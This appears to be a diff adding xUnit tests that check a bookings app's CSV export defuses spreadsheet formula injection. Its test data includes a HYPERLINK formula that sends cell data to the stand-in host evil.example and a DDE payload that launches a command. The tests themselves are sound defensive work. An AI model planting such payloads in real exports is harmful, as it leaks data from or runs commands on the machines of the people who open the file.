@@ -96,6 +96,51 @@ public sealed class BookingsListTests(BookingApp app) : IClassFixture<BookingApp
     }
 
     [Fact]
+    public async Task Csv_cells_a_spreadsheet_would_run_as_a_formula_start_with_an_apostrophe()
+    {
+        var ct = TestContext.Current.CancellationToken;
+        var client = await app.SignedInClientAsync();
+        var (id, slots, _) = await ScheduleAsync(client, 2035);
+        // Written straight to the database, as rows from before control characters were refused could be.
+        var hostile = new[]
+        {
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\0=1+1",
+        };
+        var names = new[] { "Maria 09:00", "Maria 11:10", "Tomás 10:30" };
+        for (var i = 0; i < names.Length; i++)
+        {
+            await app.BookAsync(id, slots[names[i]], hostile[i], $"formula{i}@example.org", phone: "+1 312 555 0100");
+        }
+
+        var csv = Encoding.UTF8.GetString(await (await client.SendGetAsync($"{Edition(id)}/bookings", "text/csv")).Content.ReadAsByteArrayAsync(ct));
+        var rows = ParseCsv(csv.TrimStart('\uFEFF'));
+
+        var attendee = rows[0].IndexOf("attendee");
+        var phone = rows[0].IndexOf("phone");
+        Assert.Equal(
+            new[] { hostile[0], hostile[2], hostile[1] }.Select(n => "'" + n).Order(StringComparer.Ordinal),
+            rows.Skip(1).Select(r => r[attendee]).Order(StringComparer.Ordinal));
+        Assert.All(rows.Skip(1), r => Assert.Equal("'+1 312 555 0100", r[phone]));
+        Assert.All(rows.Skip(1).SelectMany(r => r), cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r' or '\0', cell));
+    }
+
+    [Theory]
+    [InlineData("\t=1+1")]
+    [InlineData("\r=1+1")]
+    [InlineData("\0=1+1")]
+    [InlineData("=1+1")]
+    [InlineData("@SUM(A1)")]
+    public void A_cell_starting_with_a_tab_cr_or_nul_is_defused_too(string name)
+    {
+        var row = new Features.Bookings.BookingRow(Guid.NewGuid(), "confirmed", Guid.NewGuid(), DateTimeOffset.UnixEpoch, DateTimeOffset.UnixEpoch,
+            Guid.NewGuid(), "Maria Keller", "Room A", name, "a@example.org", null, "standard", "atTable", 6000, "USD", DateTimeOffset.UnixEpoch);
+
+        var rows = ParseCsv(Features.Bookings.BookingCsv.Write([row]));
+
+        Assert.Equal("'" + name, rows[1][rows[0].IndexOf("attendee")]);
+    }
+
+    [Fact]
     public async Task An_edition_without_bookings_lists_none_and_its_csv_is_only_the_header()
     {
         var ct = TestContext.Current.CancellationToken;
